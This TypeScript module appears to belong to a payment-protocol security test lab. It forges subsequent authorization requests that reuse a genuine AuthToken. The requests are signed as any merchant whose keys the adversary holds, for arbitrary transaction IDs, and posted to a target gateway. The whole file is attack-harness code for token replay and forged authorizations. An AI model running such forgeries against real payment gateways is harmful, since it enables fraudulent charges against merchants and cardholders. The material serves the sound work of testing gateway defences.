/**
 * An adversary's subsequent authorizations: a purchase approved by the running gateway with an
 * AuthToken (a split shipment the merchant asked one for, or a PI carrying installment or
 * recurring terms), and AuthReqs whose PI is an AuthToken, sent as any merchant whose keys the
 * adversary holds, over any TransIDs.
 */
import {
  openAuthRes,
  schema as s,
  type schema,
  sealSubsequentAuthReq,
  subsequentAuthReqData,
  wholeSeconds,
  wrapMessage,
} from "@setlab/protocol";
import type { AttackTarget } from "../attack";
import type { AuthReqForger, GatewayAnswer } from "./authReqForger";
import { labMerchant, type MerchantKeys } from "./capReqForger";
import { postSetRaw } from "./gatewayProbe";

/** A purchase its merchant holds an AuthToken for. */
export interface TokenPurchase {
  readonly transIDs: schema.TransIDs;
  readonly authRRPID: Uint8Array;
  readonly authToken: schema.AuthToken;
}

const gatewaySet = (target: AttackTarget) => `${target.gatewayUrl}/set`;

/**
 * A fresh purchase of `amount` (first authorization `authReqAmount`, default all of it) approved
 * with an AuthToken: `terms` in the cardholder's PIHead, or else the merchant's SubsequentAuthInd.
 */
export async function tokenPurchase(
  target: AttackTarget,
  f: AuthReqForger,
  options: { amount: number; authReqAmount?: number; terms?: schema.InstallRecurData },
): Promise<TokenPurchase> {
  const req = await f.forge({
    amount: options.amount,
    ...(options.authReqAmount !== undefined ? { authReqAmount: options.authReqAmount } : {}),
    cardholder: (x) => {
      if (options.terms) x.piHead = { ...x.piHead, installRecurData: options.terms };
    },
    merchant: (x) => {
      if (!options.terms) x.authReqData.authReqItem.authReqPayload.subsequentAuthInd = true;
    },
  });
  const answer = await postSetRaw(gatewaySet(target), req.bytes);
  const token = await authTokenOf(f, answer.body);
  return { transIDs: req.parts.transIDs, authRRPID: req.parts.authRRPID, authToken: token };
}

/** The AuthToken of an approving AuthRes, as the lab merchant reads it. */
export async function authTokenOf(f: AuthReqForger, bytes: Uint8Array): Promise<schema.AuthToken> {
  const w = s.decodeMessage(bytes);
  if (w.message.type !== "authorizationResponse") throw new Error(`no AuthRes but ${w.message.type}`);
  const opened = await openAuthRes(
    f.p,
    {
      certificate: f.pki.certificate(labMerchant.kex),
      privateKey: await f.pki.privateKey(labMerchant.kex, "keyEncipherment", f.p),
    },
    w.message.value,
    { pinnedRoot: f.pki.root(), at: new Date(), intermediates: f.pki.intermediates() },
  );
  const header = opened.data.authResPayload.authHeader;
  if (header.authCode !== "approved" || !opened.baggage.authToken)
    throw new Error(`the genuine authorization was not approved with an AuthToken (${header.authCode})`);
  return opened.baggage.authToken;
}

/** A subsequent AuthReq (PI = `token`) for `transIDs` of `amount`, signed by `merchant`. */
export async function subsequentAuthReqOf(
  f: AuthReqForger,
  transIDs: schema.TransIDs,
  token: schema.AuthToken,
  amount: number,
  merchant: MerchantKeys = labMerchant,
): Promise<Uint8Array> {
  const authRRPID = f.p.random(20);
  const date = wholeSeconds(new Date());
  const data = subsequentAuthReqData({
    merchantID: merchant.merID,
    authRRPID,
    date,
    transIDs,
    authReqAmt: { currency: 392, amount, amtExp10: 0 },
  });
  const signer = await f.signer(merchant.signer);
  const withKex = { ...signer, chain: [f.pki.certificate(merchant.kex), ...(signer.chain ?? [])] };
  const sealed = await sealSubsequentAuthReq(f.p, withKex, f.gatewayKex("Visa"), data, token);
  return wrapMessage(
    { type: "authorizationRequest", value: sealed },
    {
      rrpid: authRRPID,
      lid_C: transIDs.lid_C,
      ...(transIDs.lid_M ? { lid_M: transIDs.lid_M } : {}),
      xid: transIDs.xid,
    },
    { date },
  );
}

/** Send an AuthReq; what `merchant` reads from the answer. */
export async function sendSubsequent(
  target: AttackTarget,
  f: AuthReqForger,
  bytes: Uint8Array,
  merchant: MerchantKeys = labMerchant,
): Promise<GatewayAnswer> {
  return f.read((await postSetRaw(gatewaySet(target), bytes)).body, merchant.kex);
}
